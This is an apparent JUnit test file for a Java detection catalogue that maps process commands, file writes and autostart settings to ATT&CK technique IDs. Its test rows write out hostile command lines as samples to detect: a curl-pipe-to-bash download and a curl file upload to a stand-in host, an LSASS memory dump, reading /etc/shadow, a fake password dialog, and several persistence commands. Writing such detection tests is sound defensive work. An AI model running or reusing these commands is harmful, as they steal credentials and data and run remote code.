package io.clicktrail.enricher.process;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.enricher.lists.Lists;
import io.clicktrail.event.Autostart;
import io.clicktrail.event.AutostartKind;
import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.File;
import io.clicktrail.event.Host;
import io.clicktrail.event.Platform;
import io.clicktrail.event.Process;
import io.clicktrail.event.Source;
import java.time.Instant;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class FollowOnCatalogueTest {

    private final FollowOnCatalogue catalogue =
            FollowOnCatalogue.of(Lists.bundled().of(Lists.Name.FOLLOW_ON));

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            value = {
                "WINDOWS;C:\\Windows\\System32\\schtasks.exe;schtasks /Create /tn upd /tr x.exe /sc onlogon;T1053.005",
                "WINDOWS;C:\\Windows\\System32\\reg.exe;"
                        + "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u;T1547.001",
                "WINDOWS;C:\\Windows\\System32\\rundll32.exe;rundll32 comsvcs.dll, MiniDump 640 l.dmp full;T1003.001",
                "WINDOWS;C:\\Windows\\System32\\whoami.exe;whoami /all;T1033",
                "WINDOWS;C:\\Windows\\System32\\nltest.exe;nltest /dclist:corp;T1482",
                "LINUX;/usr/bin/systemctl;systemctl --user enable upd.service;T1543.002",
                "LINUX;/usr/bin/cat;cat /etc/shadow;T1003.008",
                "LINUX;/usr/bin/bash;bash -c curl -fsS https://x.example/u | bash;T1105",
                "MACOS;/usr/bin/osascript;osascript -e display dialog \"x\" with hidden answer;T1056.002",
                "MACOS;/bin/launchctl;launchctl load -w /Users/l/Library/LaunchAgents/u.plist;T1543.001",
                "MACOS;/usr/bin/curl;curl -s -F f=@/tmp/out.zip https://x.example/u;T1041"
            })
    void namesTheTechniqueOfACommand(Platform platform, String image, String command, String technique) {
        assertThat(catalogue.of(start(platform, image, command)))
                .isNotNull()
                .returns(technique, FollowOnCatalogue.Activity::technique)
                .returns(command, FollowOnCatalogue.Activity::shown);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            value = {
                "WINDOWS;C:\\Windows\\System32\\schtasks.exe;schtasks /query",
                "WINDOWS;C:\\Windows\\System32\\reg.exe;"
                        + "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "LINUX;/usr/bin/systemctl;systemctl status sshd",
                "LINUX;/usr/bin/curl;curl -fsS https://x.example/u",
                "MACOS;/usr/bin/osascript;osascript -e return 1",
                "WINDOWS;C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe;chrome.exe"
            })
    void leavesOrdinaryCommandsAlone(Platform platform, String image, String command) {
        assertThat(catalogue.of(start(platform, image, command))).isNull();
    }

    @ParameterizedTest
    @CsvSource({
        "WINDOWS,C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk,T1547.001",
        "LINUX,/home/a/.config/systemd/user/u.service,T1543.002",
        "LINUX,/home/a/.bashrc,T1546.004",
        "MACOS,/Users/a/Library/LaunchAgents/u.plist,T1543.001"
    })
    void namesTheTechniqueOfAWrite(Platform platform, String path, String technique) {
        assertThat(catalogue.of(write(platform, path)))
                .isNotNull()
                .returns(technique, FollowOnCatalogue.Activity::technique);
    }

    @ParameterizedTest
    @CsvSource({
        "REGISTRY_VALUE,HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd,T1547.001",
        "REGISTRY_VALUE,HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell,T1547.004",
        "REGISTRY_VALUE,HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages,T1547",
        "SCHEDULED_TASK,\\upd,T1053.005",
        "SERVICE,upd,T1543.003"
    })
    void namesTheTechniqueOfASetting(AutostartKind kind, String location, String technique) {
        assertThat(catalogue.of(setting(kind, location)))
                .isNotNull()
                .returns(technique, FollowOnCatalogue.Activity::technique)
                .returns(location + " = c:\\u\\x.exe", FollowOnCatalogue.Activity::shown);
    }

    private static Event setting(AutostartKind kind, String location) {
        return event(Platform.WINDOWS, EventKind.AUTOSTART)
                .setAutostart(new Autostart(kind, location, "c:\\u\\x.exe"))
                .build();
    }

    @Test
    void aRowOfAnotherPlatformSaysNothing() {
        assertThat(catalogue.of(write(Platform.LINUX, "/mnt/mac/Library/LaunchAgents/u.plist")))
                .isNull();
    }

    private static Event start(Platform platform, String image, String command) {
        return event(platform, EventKind.PROCESS_START)
                .setProcess(Process.newBuilder()
                        .setExecutable(image)
                        .setCommandLine(command)
                        .build())
                .build();
    }

    private static Event write(Platform platform, @Nullable String path) {
        return event(platform, EventKind.FILE_WRITE)
                .setFile(File.newBuilder().setPath(path).setName("u").build())
                .build();
    }

    private static Event.Builder event(Platform platform, EventKind kind) {
        return Event.newBuilder()
                .setEventId("e")
                .setTime(Instant.EPOCH)
                .setKind(kind)
                .setHost(Host.newBuilder().setName("h").setPlatform(platform).build())
                .setSource(Source.newBuilder()
                        .setDataset("d")
                        .setTopic("t")
                        .setPartition(0)
                        .setOffset(0)
                        .setSha256("00")
                        .build());
    }
}
